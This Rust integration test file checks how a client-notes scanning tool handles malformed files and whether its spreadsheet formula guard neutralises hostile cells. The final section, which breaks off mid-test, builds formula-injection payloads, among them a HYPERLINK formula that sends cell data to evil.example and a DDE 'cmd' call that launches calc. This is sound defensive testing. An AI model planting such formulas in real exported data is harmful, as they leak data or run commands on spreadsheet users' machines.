//! Bad input through the real binary (issue 7): every broken thing a nightly
//! export can hold, each beside a good client file. For each case: the exit
//! code, the one stderr line naming the file and line or row, and the tables
//! still written for the good notes. Nothing may panic.
//!
//! Inputs are built in a temp folder at test time; no binary blobs are kept
//! in the repository. Spreadsheet safety (formula guard, `--bom`, JSON left
//! alone) is tested here too, with hostile text coming from the notes.
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// A client file that always yields one candidate row.
const GOOD: &str = "Client: Linda Park\n## 2026-03-14\nHer brother Tom is worried about retirement and asked about you.\n";
/// The candidate row `GOOD` yields, up to its evidence.
const GOOD_ROW: &str = "Linda Park,Tom,brother,family,yes,";

/// A temp folder holding `notes/good.md` and whatever a case adds.
struct Case {
    dir: tempfile::TempDir,
}

/// What one run of the binary left behind.
struct Run {
    code: i32,
    stderr: String,
    candidates: String,
    flags: String,
}

impl Run {
    fn lines(&self) -> Vec<&str> {
        self.stderr.lines().collect()
    }
}

impl Case {
    fn new() -> Case {
        let case = Case {
            dir: tempfile::tempdir().expect("a temp dir"),
        };
        std::fs::create_dir(case.notes()).expect("notes/");
        case.file("good.md", GOOD);
        case
    }

    fn notes(&self) -> PathBuf {
        self.dir.path().join("notes")
    }

    fn file(&self, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
        let path = self.notes().join(name);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).expect("parent folder");
        }
        std::fs::write(&path, bytes).expect("write input");
        path
    }

    fn command(&self) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_circlescan"));
        cmd.current_dir(self.dir.path());
        cmd
    }

    /// `circlescan scan <args> --out out`, run in the case folder.
    fn scan(&self, args: &[&str]) -> Run {
        let out = self.dir.path().join("out");
        let _ = std::fs::remove_dir_all(&out);
        let output = self
            .command()
            .arg("scan")
            .args(args)
            .arg("--out")
            .arg(&out)
            .output()
            .expect("run circlescan");
        let read = |name: &str| std::fs::read_to_string(out.join(name)).unwrap_or_default();
        let run = Run {
            code: code(&output),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
            candidates: read("candidates.csv"),
            flags: read("flags.csv"),
        };
        assert_no_panic(&run.stderr);
        run
    }

    /// `scan notes`: the whole folder.
    fn scan_notes(&self) -> Run {
        self.scan(&["notes"])
    }
}

fn code(output: &Output) -> i32 {
    output
        .status
        .code()
        .expect("exited, not killed by a signal")
}

fn assert_no_panic(stderr: &str) {
    assert!(
        !stderr.contains("panicked") && !stderr.contains("RUST_BACKTRACE"),
        "the binary panicked:\n{stderr}"
    );
}

/// The good note's row is still written.
fn assert_good_row(run: &Run) {
    assert!(
        run.candidates
            .lines()
            .any(|l| l.starts_with(GOOD_ROW) && l.ends_with(",notes/good.md:3")),
        "good note's row missing:\n{}\nstderr:\n{}",
        run.candidates,
        run.stderr
    );
}

/// Exit code, exact stderr, and the good row beside it.
fn assert_run(run: &Run, code: i32, stderr: &[&str]) {
    assert_eq!(run.lines(), stderr, "stderr");
    assert_eq!(run.code, code, "exit code; stderr:\n{}", run.stderr);
    assert_good_row(run);
}

/// Rows of a CSV table other than its header, as cells.
fn rows(table: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .from_reader(table.as_bytes())
        .records()
        .map(|r| {
            r.expect("the tables are valid CSV")
                .iter()
                .map(str::to_string)
                .collect()
        })
        .collect()
}

/// The candidate rows of one client, as `person,relationship,...,source`.
fn client_rows(run: &Run, client: &str) -> Vec<Vec<String>> {
    rows(&run.candidates)
        .into_iter()
        .filter(|r| r[0] == client)
        .collect()
}

/// Whether the test runs with privileges that ignore file permissions
/// (root in a container): `chmod 000` then blocks nothing.
#[cfg(unix)]
fn permissions_ignored(probe: &Path) -> bool {
    std::fs::read(probe).is_ok()
}

#[cfg(unix)]
fn chmod(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).expect("chmod");
}

// ---------------------------------------------------------------- files ---

#[test]
fn empty_files_warn_and_change_nothing() {
    let case = Case::new();
    for name in ["empty.md", "empty.csv", "empty.json", "empty.jsonl"] {
        case.file(name, "");
    }
    case.file("blank.txt", "\n\r\n   \n");
    let run = case.scan_notes();
    assert_run(
        &run,
        0,
        &[
            "notes/blank.txt: warning: empty file, no notes",
            "notes/empty.csv: warning: empty file, no notes",
            "notes/empty.json: warning: empty file, no notes",
            "notes/empty.jsonl: warning: empty file, no notes",
            "notes/empty.md: warning: empty file, no notes",
        ],
    );
}

#[test]
fn a_file_of_only_a_header_warns() {
    let case = Case::new();
    case.file("header.csv", "client,date,note\r\n");
    case.file("header.tsv", "client\tdate\tnote\n");
    case.file(
        "header.md",
        "Client: Ann Lee\nAdvisor: Dana Whitaker\n## 2026-01-02\n",
    );
    let run = case.scan_notes();
    assert_run(
        &run,
        0,
        &[
            "notes/header.csv: warning: header only, no rows",
            "notes/header.md: warning: no notes: nothing but headers and date lines",
            "notes/header.tsv: warning: header only, no rows",
        ],
    );
}

#[test]
fn a_binary_file_is_skipped_with_a_message() {
    let case = Case::new();
    case.file("scan.md", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0");
    case.file("export.csv", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
    let run = case.scan_notes();
    assert_run(
        &run,
        1,
        &[
            "notes/export.csv: error: binary file (NUL bytes), skipped",
            "notes/scan.md: error: binary file (NUL bytes), skipped",
        ],
    );
}

#[test]
fn latin1_and_windows_1252_are_read() {
    let case = Case::new();
    case.file(
        "renee-dubois.md",
        b"Client: Ren\xe9e Dubois\n## 2026-03-14\nHer neighbour Jos\xe9 is worried about retirement.\n",
    );
    // 1252: curly quotes, an en dash and the euro sign in 0x80-0x9F.
    case.file(
        "export.csv",
        b"client,date,note\r\nZo\xeb Brandt,2026-03-15,\"\x93Her sister Ana\x94 \x96 just inherited \x80200k.\"\r\n",
    );
    let run = case.scan_notes();
    assert_run(&run, 0, &[]);
    assert_eq!(client_rows(&run, "Renée Dubois")[0][1], "José");
    let zoe = client_rows(&run, "Zoë Brandt");
    assert_eq!(zoe[0][1], "Ana");
    assert!(
        zoe[0][14].contains("\u{2013} just inherited \u{20ac}200k."),
        "{zoe:?}"
    );
}

#[test]
fn utf16_with_a_bom_is_read() {
    let case = Case::new();
    let text =
        "client,date,note\r\nAnn Lee,2026-01-02,Her brother Tom is worried about retirement.\r\n";
    let mut le = vec![0xFF, 0xFE];
    le.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    case.file("utf16le.csv", le);
    let md = GOOD.replace("Linda Park", "Bea Ruiz");
    let mut be = vec![0xFE, 0xFF];
    be.extend(md.encode_utf16().flat_map(u16::to_be_bytes));
    case.file("utf16be.md", be);
    let run = case.scan_notes();
    assert_run(&run, 0, &[]);
    assert_eq!(client_rows(&run, "Ann Lee")[0][15], "notes/utf16le.csv:2");
    assert_eq!(client_rows(&run, "Bea Ruiz")[0][15], "notes/utf16be.md:3");
}

#[test]
fn invalid_utf8_in_the_middle_of_a_note_is_replaced_and_named() {
    let case = Case::new();
    case.file(
        "zoe-park.md",
        b"Client: Zo\xc3\xab Park\n## 2026-03-14\nWe met at the caf\xc3\xa9.\nHer brother Tom \xff\xfe is worried about retirement.\n",
    );
    let run = case.scan_notes();
    assert_run(
        &run,
        0,
        &["notes/zoe-park.md:4: warning: invalid UTF-8 replaced with U+FFFD"],
    );
    assert_eq!(client_rows(&run, "Zoë Park")[0][1], "Tom");
}

#[test]
fn a_large_note_with_no_newline_completes() {
    // 20 MB keeps CI fast; the README gives the 200 MB figure measured by
    // hand. One line: a run of sentences, then one giant "sentence" with
    // no punctuation at all, then a mention.
    let case = Case::new();
    let mut text = String::from("Client: Big Note\n## 2026-03-14\n");
    let sentence = "We reviewed the portfolio and talked about the weather. ";
    while text.len() < 10 << 20 {
        text.push_str(sentence);
    }
    let words = "and then we talked about nothing much in particular ";
    while text.len() < 20 << 20 {
        text.push_str(words);
    }
    text.push_str(". Her brother Tom is worried about retirement.");
    case.file("big-note.md", &text);
    let started = std::time::Instant::now();
    let run = case.scan_notes();
    assert_run(&run, 0, &[]);
    let big = client_rows(&run, "Big Note");
    assert_eq!(big[0][1], "Tom");
    assert_eq!(big[0][15], "notes/big-note.md:3");
    eprintln!("20 MB note scanned in {:?}", started.elapsed());
}

// ---------------------------------------------------------------- CSV ---

#[test]
fn csv_unbalanced_quote_is_named_with_its_line() {
    let case = Case::new();
    case.file(
        "unbalanced.csv",
        "client,date,note\r\nAnn Lee,2026-01-02,Her sister Jo is buying a house.\r\nBo Li,2026-01-03,\"Her brother Sam asked about you.\r\nCy Po,2026-01-04,Her neighbor Dave just inherited a farm.\r\n",
    );
    // Opened here, "closed" by the next row's opening quote.
    case.file(
        "swallowed.csv",
        "client,date,note\nDi Ng,2026-01-02,\"Her cousin Lu is buying a house.\nEd Oh,2026-01-03,\"His partner Max, who is retiring, asked about you.\"\n",
    );
    let run = case.scan_notes();
    assert_run(
        &run,
        1,
        &[
            "notes/swallowed.csv:2: error: bad CSV row: unbalanced quote (a quoted field is never closed); row skipped",
            "notes/unbalanced.csv:3: error: bad CSV row: unbalanced quote (a quoted field is never closed); row skipped",
        ],
    );
    assert_eq!(
        client_rows(&run, "Ann Lee")[0][15],
        "notes/unbalanced.csv:2"
    );
    assert!(client_rows(&run, "Bo Li").is_empty());
    assert_eq!(client_rows(&run, "Cy Po")[0][15], "notes/unbalanced.csv:4");
    assert!(client_rows(&run, "Di Ng").is_empty());
    assert_eq!(client_rows(&run, "Ed Oh")[0][15], "notes/swallowed.csv:3");
}

#[test]
fn csv_ragged_rows_are_named_by_line() {
    let case = Case::new();
    case.file(
        "ragged.csv",
        "client,date,note\nAnn Lee,2026-01-02,Her sister Jo is buying a house.,extra,cells\nBo Li,2026-01-03\nCy Po\n\nDi Ng,2026-01-05,Her brother Sam asked about you.\n",
    );
    let run = case.scan_notes();
    assert_run(
        &run,
        1,
        &[
            "notes/ragged.csv:2: warning: ragged CSV row: row has 5 fields, the header 3; extra fields ignored",
            "notes/ragged.csv:3: error: bad CSV row: row has 2 fields, the header 3; no text, skipped",
            "notes/ragged.csv:4: error: bad CSV row: row has 1 field, the header 3; no text, skipped",
        ],
    );
    assert_eq!(client_rows(&run, "Ann Lee")[0][15], "notes/ragged.csv:2");
    assert_eq!(client_rows(&run, "Di Ng")[0][15], "notes/ragged.csv:6");
}

#[test]
fn csv_missing_text_column_is_an_error_naming_the_header_line() {
    let case = Case::new();
    case.file(
        "no-text.csv",
        "client,date,owner\nAnn Lee,2026-01-02,Dana\n",
    );
    case.file(
        "no-client.csv",
        "date,note\n2026-01-02,Her sister Jo is buying a house.\n",
    );
    let run = case.scan_notes();
    assert_run(
        &run,
        1,
        &[
            "notes/no-client.csv:1: error: no client column (looked for client, notes, body, ...)",
            "notes/no-text.csv:1: error: no text column (looked for text, notes, body, ...)",
        ],
    );
}

#[test]
fn csv_duplicate_header_names_warn_and_the_first_is_used() {
    let case = Case::new();
    case.file(
        "dupes.csv",
        "Client,Note,note,Client\nAnn Lee,Her sister Jo is buying a house.,ignored text,Someone Else\n",
    );
    let run = case.scan_notes();
    assert_run(
        &run,
        0,
        &[
            "notes/dupes.csv:1: warning: duplicate column \"Client\"; the first is used",
            "notes/dupes.csv:1: warning: duplicate column \"note\"; the first is used",
        ],
    );
    assert_eq!(client_rows(&run, "Ann Lee")[0][1], "Jo");
}

#[test]
fn csv_header_on_the_second_line_is_found() {
    let case = Case::new();
    case.file(
        "report.csv",
        "Notes export 2026-03-01\r\nclient,date,note\r\nAnn Lee,2026-01-02,Her sister Jo is buying a house.\r\n",
    );
    let run = case.scan_notes();
    assert_run(&run, 0, &[]);
    assert_eq!(client_rows(&run, "Ann Lee")[0][15], "notes/report.csv:3");
}

#[test]
fn fuzz_regression_entity_at_a_character_boundary() {
    // Found by `cargo fuzz run read_table`: an `&` whose 12th byte fell
    // inside a two-byte character panicked the HTML reader.
    let case = Case::new();
    case.file(
        "entity.csv",
        "client,note\nAnn Lee,Her sister Jo &abcdefghij\u{ca}; is buying a house&nbsp;soon.\n",
    );
    let run = case.scan_notes();
    assert_run(&run, 0, &[]);
    assert_eq!(client_rows(&run, "Ann Lee")[0][1], "Jo");
}

// --------------------------------------------------------------- JSON ---

#[test]
fn json_syntax_error_names_its_line() {
    let case = Case::new();
    case.file(
        "broken.json",
        "[\n  {\"client\": \"Ann Lee\", \"note\": \"Her sister Jo is buying a house.\"},\n  {\"client\": \"Bo Li\", note: \"x\"}\n]\n",
    );
    let run = case.scan_notes();
    assert_run(
        &run,
        1,
        &["notes/broken.json:3: error: bad JSON: key must be a string"],
    );
    assert!(
        client_rows(&run, "Ann Lee").is_empty(),
        "a broken JSON file yields nothing"
    );
}

#[test]
fn jsonl_bad_line_is_skipped_and_the_rest_read() {
    let case = Case::new();
    case.file(
        "notes.jsonl",
        "{\"client\": \"Ann Lee\", \"note\": \"Her sister Jo is buying a house.\"}\n{\"client\": \"Bo Li\", \"note\": }\n[1, 2]\n{\"client\": \"Cy Po\", \"note\": \"Her brother Sam asked about you.\"}\n",
    );
    let run = case.scan_notes();
    assert_run(
        &run,
        1,
        &[
            "notes/notes.jsonl:2: error: bad JSON: expected value",
            "notes/notes.jsonl:3: error: not a JSON object; skipped",
        ],
    );
    assert_eq!(client_rows(&run, "Ann Lee")[0][15], "notes/notes.jsonl:1");
    assert_eq!(client_rows(&run, "Cy Po")[0][15], "notes/notes.jsonl:4");
}

// -------------------------------------------------------------- dates ---

#[test]
fn unknown_date_formats_leave_the_note_undated() {
    let case = Case::new();
    case.file(
        "ann-lee.md",
        "Client: Ann Lee\nDate: next Tuesday\nHer sister Jo is buying a house.\n## 2026-02-30\nHer brother Sam asked about you.\n",
    );
    case.file(
        "export.csv",
        "client,date,note\nBo Li,Q1 2026,Her sister Mei is buying a house.\nBo Li,14/03/2026,Her brother Jun asked about you.\n",
    );
    let run = case.scan_notes();
    assert_run(
        &run,
        0,
        &[
            "notes/ann-lee.md:2: warning: unreadable date \"Date: next Tuesday\"; note left undated",
            "notes/ann-lee.md:4: warning: unreadable date \"## 2026-02-30\"; note left undated",
            "notes/export.csv:2: warning: unreadable date \"Q1 2026\"; note left undated",
        ],
    );
    let ann = client_rows(&run, "Ann Lee");
    assert!(ann.iter().all(|r| r[11].is_empty()), "{ann:?}");
    // Day-first is read when month-first is no date.
    let jun = client_rows(&run, "Bo Li");
    assert!(
        jun.iter().any(|r| r[1] == "Jun" && r[11] == "2026-03-14"),
        "{jun:?}"
    );
}

#[test]
fn dates_before_1900_or_after_2199_are_unreadable_and_future_dates_kept() {
    let case = Case::new();
    case.file(
        "ann-lee.md",
        "Client: Ann Lee\n## 1850-01-01\nHer sister Jo is buying a house.\nMarch 3, 2300\nHer brother Sam asked about you.\n1899-12-31 - review\nHer cousin Lu just inherited a farm.\n",
    );
    case.file(
        "export.csv",
        "client,date,note\nBo Li,2099-01-01,Her sister Mei is buying a house.\nBo Li,12/31/1899,Her brother Jun asked about you.\n",
    );
    let run = case.scan_notes();
    assert_run(
        &run,
        0,
        &[
            "notes/ann-lee.md:2: warning: unreadable date \"## 1850-01-01\" (year 1850 is outside 1900-2199); note left undated",
            "notes/ann-lee.md:4: warning: unreadable date \"March 3, 2300\" (year 2300 is outside 1900-2199); note left undated",
            "notes/ann-lee.md:6: warning: unreadable date \"1899-12-31 - review\" (year 1899 is outside 1900-2199); note left undated",
            "notes/export.csv:3: warning: unreadable date \"12/31/1899\" (year 1899 is outside 1900-2199); note left undated",
        ],
    );
    let ann = client_rows(&run, "Ann Lee");
    assert_eq!(ann.len(), 3, "the date lines start notes: {ann:?}");
    assert!(ann.iter().all(|r| r[11].is_empty()));
    // A date in the future is a date: kept, not reported.
    let mei = client_rows(&run, "Bo Li");
    assert!(
        mei.iter().any(|r| r[1] == "Mei" && r[11] == "2099-01-01"),
        "{mei:?}"
    );
}

// ------------------------------------------------------- the filesystem ---

#[cfg(unix)]
#[test]
fn a_file_that_vanishes_or_turns_unreadable_during_the_walk() {
    use std::os::unix::fs::symlink;
    let case = Case::new();
    // Listed by the walk, gone before it is read: the link's target is
    // removed after the link is made, so only the dangling link remains.
    let target = case.file("moved-away.txt.bak", GOOD);
    symlink("moved-away.txt.bak", case.notes().join("moved-away.md")).expect("symlink");
    std::fs::remove_file(target).expect("remove target");
    let mut expected =
        vec!["notes/moved-away.md: error: cannot read: broken symbolic link".to_string()];
    // Listed as a regular file, failing when read: /proc/self/mem reads as
    // an I/O error at offset 0, for root too.
    if Path::new("/proc/self/mem").exists() {
        symlink("/proc/self/mem", case.notes().join("failing.md")).expect("symlink");
        expected.insert(
            0,
            "notes/failing.md: error: cannot read: Input/output error (os error 5)".to_string(),
        );
    }
    let locked = case.file("locked.md", GOOD);
    chmod(&locked, 0o000);
    if permissions_ignored(&locked) {
        eprintln!("note: running with privileges that ignore chmod 000; the unreadable-file case is skipped");
        std::fs::remove_file(&locked).expect("remove");
    } else {
        expected.insert(
            expected.len() - 1,
            "notes/locked.md: error: cannot read: Permission denied (os error 13)".to_string(),
        );
    }
    let run = case.scan_notes();
    let want: Vec<&str> = expected.iter().map(String::as_str).collect();
    assert_run(&run, 1, &want);
}

#[cfg(unix)]
#[test]
fn broken_symlinks_named_or_found_are_errors() {
    use std::os::unix::fs::symlink;
    let case = Case::new();
    symlink("nowhere.md", case.notes().join("dangling.md")).expect("symlink");
    symlink("/nonexistent/dir/x.csv", case.notes().join("absolute.csv")).expect("symlink");
    // A broken link with no note extension is not ours to read.
    symlink("nowhere", case.notes().join("README")).expect("symlink");
    let run = case.scan(&["notes", "notes/dangling.md"]);
    assert_run(
        &run,
        1,
        &[
            "notes/absolute.csv: error: cannot read: broken symbolic link",
            "notes/dangling.md: error: cannot read: broken symbolic link",
        ],
    );
}

#[cfg(unix)]
#[test]
fn symlink_loops_end() {
    use std::os::unix::fs::symlink;
    let case = Case::new();
    symlink("self.md", case.notes().join("self.md")).expect("symlink");
    symlink("b.csv", case.notes().join("a.csv")).expect("symlink");
    symlink("a.csv", case.notes().join("b.csv")).expect("symlink");
    std::fs::create_dir(case.notes().join("sub")).expect("mkdir");
    symlink("..", case.notes().join("sub/parent")).expect("symlink");
    case.file("sub/other.md", GOOD.replace("Linda Park", "Other Client"));
    let run = case.scan_notes();
    assert_run(
        &run,
        1,
        &[
            "notes/a.csv: error: cannot read: symbolic link loop",
            "notes/b.csv: error: cannot read: symbolic link loop",
            "notes/self.md: error: cannot read: symbolic link loop",
            "notes/sub/parent: warning: symbolic link loop, skipped",
        ],
    );
    assert_eq!(client_rows(&run, "Other Client").len(), 1, "read once");
    assert_eq!(client_rows(&run, "Linda Park").len(), 1, "read once");
}

#[cfg(unix)]
#[test]
fn an_unreadable_directory_is_named() {
    let case = Case::new();
    let locked = case.notes().join("locked");
    std::fs::create_dir(&locked).expect("mkdir");
    std::fs::write(locked.join("x.md"), GOOD).expect("write");
    chmod(&locked, 0o000);
    let ignored = std::fs::read_dir(&locked).is_ok();
    let run = case.scan_notes();
    chmod(&locked, 0o755);
    if ignored {
        eprintln!("note: running with privileges that ignore chmod 000; the unreadable-folder case only checks the scan ends cleanly");
        assert_run(&run, 0, &[]);
        return;
    }
    assert_run(
        &run,
        1,
        &["notes/locked: error: cannot read folder: Permission denied (os error 13)"],
    );
}

#[cfg(unix)]
#[test]
fn a_named_pipe_in_a_folder_is_skipped_not_waited_on() {
    let case = Case::new();
    let made = Command::new("mkfifo")
        .arg(case.notes().join("pipe.csv"))
        .status()
        .is_ok_and(|s| s.success());
    if !made {
        eprintln!("note: mkfifo unavailable; named-pipe case skipped");
        return;
    }
    let run = case.scan_notes();
    assert_run(
        &run,
        0,
        &["notes/pipe.csv: warning: not a regular file, skipped"],
    );
}

#[test]
fn the_same_path_given_twice_is_read_once() {
    let case = Case::new();
    let run = case.scan(&[
        "notes/good.md",
        "notes",
        "notes/./good.md",
        "notes/../notes/good.md",
    ]);
    assert_run(&run, 0, &[]);
    let linda = client_rows(&run, "Linda Park");
    assert_eq!(linda.len(), 1);
    assert_eq!(linda[0][10], "1", "mentions counted once");
}

#[test]
fn ten_thousand_tiny_files() {
    let case = Case::new();
    for i in 0..10_000 {
        case.file(
            &format!("t/{:02}/c{i:05}.md", i % 100),
            format!("Client: Client {i:05}\nHer sister Jo asked about you.\n"),
        );
    }
    let started = std::time::Instant::now();
    let run = case.scan_notes();
    assert_run(&run, 0, &[]);
    assert_eq!(rows(&run.candidates).len(), 10_001);
    eprintln!("10,000 files scanned in {:?}", started.elapsed());
}

#[cfg(unix)]
#[test]
fn control_characters_and_rtl_marks_in_names() {
    let case = Case::new();
    // A client named only by its file name, with a right-to-left override
    // that would show "Linda Park" reversed.
    case.file(
        "Ann\u{202E}-Lee\u{200F}.md",
        "## 2026-03-14\nHer sister Jo is buying a house.\n",
    );
    // Names from headers and cells, with controls and bidi marks.
    case.file(
        "bo-li.md",
        "Client: Bo\u{7} \u{2067}Li\u{2069}\n## 2026-03-14\nHer sister Mei is buying a house.\n",
    );
    case.file(
        "export.csv",
        "client,note\nCy\u{1b}[31m Po\u{202E},Her sister Ana\u{200E} is buying a house.\n",
    );
    case.file(
        "export.jsonl",
        "{\"client\": \"Di\\u0000 Ng\\u202e\", \"note\": \"Her sister Lu is buying a house.\"}\n",
    );
    // A bad file whose name holds a line break and an escape sequence: its
    // diagnostic is still one line with nothing for the terminal to run.
    case.file("evil\u{1b}[2J\nname\u{202E}.md", "");
    let run = case.scan_notes();
    assert_run(
        &run,
        0,
        &["notes/evil?[2J?name?.md: warning: empty file, no notes"],
    );
    let clients: Vec<String> = rows(&run.candidates)
        .into_iter()
        .map(|r| r[0].clone())
        .collect();
    assert_eq!(
        clients,
        ["Ann Lee", "Bo Li", "Cy[31m Po", "Di Ng", "Linda Park"],
        "{}",
        run.candidates
    );
    assert!(
        !run.candidates
            .chars()
            .any(|c| c.is_control() && !matches!(c, '\r' | '\n')),
        "no control characters in the table"
    );
    for bidi in ['\u{202E}', '\u{200F}', '\u{200E}', '\u{2067}', '\u{2069}'] {
        assert!(!run.candidates.contains(bidi), "{bidi:?} in the table");
    }
    assert!(client_rows(&run, "Cy[31m Po")[0][14].starts_with("Her sister Ana is"));
}

// ------------------------------------------------------------ all at once ---

#[cfg(unix)]
#[test]
fn a_folder_mixing_every_bad_case_with_good_notes() {
    use std::os::unix::fs::symlink;
    let case = Case::new();
    case.file("bo-li.md", GOOD.replace("Linda Park", "Bo Li"));
    case.file("empty.md", "");
    case.file("header.csv", "client,date,note\n");
    case.file("scan.md", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR");
    case.file(
        "latin1.md",
        b"Client: Ren\xe9e Dubois\n## 2026-03-14\nHer neighbour Jos\xe9 asked about you.\n",
    );
    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(
        GOOD.replace("Linda Park", "Wu Chen")
            .encode_utf16()
            .flat_map(u16::to_le_bytes),
    );
    case.file("utf16.md", utf16);
    case.file(
        "bad-utf8.md",
        b"Client: Zo\xc3\xab Park\n## 2026-03-14\nHer brother Tom \xff is buying a house.\n",
    );
    case.file(
        "unbalanced.csv",
        "client,note\nAnn Lee,Her sister Jo is buying a house.\nBo Li,\"never closed\n",
    );
    case.file("ragged.csv", "client,date,note\nCy Po,2026-01-03\n");
    case.file("no-text.csv", "client,date\nCy Po,2026-01-03\n");
    case.file(
        "dupes.csv",
        "client,note,note\nDi Ng,Her sister Lu is buying a house.,x\n",
    );
    case.file("broken.json", "[\n{\"client\": \"Ed Oh\",\n note: 1}\n]");
    case.file(
        "some.jsonl",
        "{\"client\": \"Fay Wu\", \"note\": \"Her sister Mo is buying a house.\"}\n{oops\n",
    );
    case.file("dates.md", "Client: Gil Ray\nDate: next Tuesday\nHer sister Pia is buying a house.\n## 1850-01-01\nHer brother Ned asked about you.\n");
    symlink("gone.md", case.notes().join("dangling.md")).expect("symlink");
    symlink("loop.md", case.notes().join("loop.md")).expect("symlink");
    std::fs::create_dir(case.notes().join("sub")).expect("mkdir");
    symlink("..", case.notes().join("sub/up")).expect("symlink");
    case.file("sub/rtl\u{202E}.md", "");
    let run = case.scan(&["notes", "notes/good.md"]);
    assert_run(
        &run,
        1,
        &[
            "notes/bad-utf8.md:3: warning: invalid UTF-8 replaced with U+FFFD",
            "notes/broken.json:3: error: bad JSON: key must be a string",
            "notes/dangling.md: error: cannot read: broken symbolic link",
            "notes/dates.md:2: warning: unreadable date \"Date: next Tuesday\"; note left undated",
            "notes/dates.md:4: warning: unreadable date \"## 1850-01-01\" (year 1850 is outside 1900-2199); note left undated",
            "notes/dupes.csv:1: warning: duplicate column \"note\"; the first is used",
            "notes/empty.md: warning: empty file, no notes",
            "notes/header.csv: warning: header only, no rows",
            "notes/loop.md: error: cannot read: symbolic link loop",
            "notes/no-text.csv:1: error: no text column (looked for text, notes, body, ...)",
            "notes/ragged.csv:2: error: bad CSV row: row has 2 fields, the header 3; no text, skipped",
            "notes/scan.md: error: binary file (NUL bytes), skipped",
            "notes/some.jsonl:2: error: bad JSON: key must be a string",
            "notes/sub/rtl?.md: warning: empty file, no notes",
            "notes/sub/up: warning: symbolic link loop, skipped",
            "notes/unbalanced.csv:3: error: bad CSV row: unbalanced quote (a quoted field is never closed); row skipped",
        ],
    );
    let clients: Vec<String> = rows(&run.candidates)
        .into_iter()
        .map(|r| r[0].clone())
        .collect();
    let mut distinct = clients.clone();
    distinct.dedup();
    assert_eq!(
        distinct,
        [
            "Ann Lee",
            "Bo Li",
            "Di Ng",
            "Fay Wu",
            "Gil Ray",
            "Linda Park",
            "Renée Dubois",
            "Wu Chen",
            "Zoë Park"
        ]
    );
    assert!(run.flags.starts_with("client,date,flag"));
}

// ------------------------------------------------- spreadsheet safety ---

/// Notes whose client names and sentences would run as formulas.
fn hostile_case() -> Case {
    let case = Case::new();
    case.file(
        "export.csv",
        concat!(
            "client,date,note\n",
            "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Linda\"\")\",2026-01-02,\"@SUM(A1:A9) Her brother Tom is worried about retirement and asked about you.\"\n",
            "+1-555-0100,2026-01-03,\"+1-555-0199 is the number of her sister Jo, who is buying a house.\"\n",
            "-Ann Lee,2026-01-04,\"-2+3 was the joke. Her neighbor Dave just inherited a farm and wants to meet you.\"\n",
            "\"\tTab Client\",2026-01-05,\"=cmd|' /C calc'!A0 Her cousin Lu is selling her business.\"\n",
            "\"\u{7}@Bell\u{202E} Client\",2026-01-06,Her aunt May thanked me. Her aunt May is buying a house.\n",
        ),
    );
    case
}

const FORMULA_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

#[test]
fn formula_guard_defuses_every_hostile_cell() {
    let case = hostile_case();
    let run = case.scan_notes();
    assert_eq!(run.code, 0, "{}", run.stderr);
    for table in [&run.candidates, &run.flags] {
        for row in rows(table) {
            for cell in &row {
                assert!(
                    !cell.starts_with(FORMULA_START),
                    "unguarded cell {cell:?} in {row:?}"
                );
                assert!(
                    !cell
                        .chars()
                        .any(|c| c.is_control() && !matches!(c, '\t' | '\r' | '\n')),
                    "control character in {cell:?}"
                );
            }
        }
    }
    let clients: Vec<String> = rows(&run.candidates)
        .into_iter()
        .map(|r| r[0].clone())
        .collect();
    for want in [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Linda\")",
        "'+1-555-0100",
        "'-Ann Lee",
        "'@Bell Client",
    ] {
        assert!(
            clients.iter().any(|c| c == want),
            "{want:?} not in {clients:?}"
        );
    }
    let evidence: Vec<String> = rows(&run.candidates)
        .into_iter()
        .map(|r| r[14].clone())
        .collect();
    for want in [
        "'@SUM(A1:A9) Her brother Tom",
        "'+1-555-0199 is the number",
        "'=cmd|",
    ] {
        assert!(
            evidence.iter().any(|e| e.starts_with(want)),
            "{want:?} not in {evidence:?}"
        );
    }
    // The same guard on standard output.
    let printed = case
        .command()
        .args(["candidates", "notes"])
        .output()
        .expect("run circlescan");
    let printed = String::from_utf8(printed.stdout).expect("UTF-8");
    assert_eq!(
        printed.replace("\r\n", "\n"),
        run.candidates.replace("\r\n", "\n")
    );
}

#[test]
fn no_formula_guard_writes_raw_text_without_controls() {
    let case = hostile_case();
    let run = case.scan(&["notes", "--no-formula-guard"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let clients: Vec<String> = rows(&run.candidates)
        .into_iter()
        .map(|r| r[0].clone())
        .collect();
    assert!(clients
        .iter()
        .any(|c| c == "=HYPERLINK(\"http://evil.example/?\"&A1,\"Linda\")"));
    assert!(clients.iter().any(|c| c == "@Bell Client"), "{clients:?}");
    assert!(run.candidates.contains(",@SUM(A1:A9) Her brother Tom"));
    assert!(!run.candidates.contains(",'"), "no cell is prefixed");
}

#[test]
fn json_output_is_never_guarded() {
    let case = hostile_case();
    for format in ["json", "jsonl"] {
        let out = case.dir.path().join(format!("out-{format}"));
        let output = case
            .command()
            .args(["scan", "notes", "--format", format, "--out"])
            .arg(&out)
            .output()
            .expect("run circlescan");
        assert_eq!(code(&output), 0);
        let text =
            std::fs::read_to_string(out.join(format!("candidates.{format}"))).expect("table");
        let rows: Vec<serde_json::Value> = if format == "json" {
            serde_json::from_str(&text).expect("a JSON array")
        } else {
            text.lines()
                .map(|l| serde_json::from_str(l).expect("a JSON object a line"))
                .collect()
        };
        let clients: Vec<&str> = rows.iter().filter_map(|r| r["client"].as_str()).collect();
        for want in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Linda\")",
            "+1-555-0100",
            "-Ann Lee",
            "@Bell Client",
        ] {
            assert!(clients.contains(&want), "{want:?} not in {clients:?}");
        }
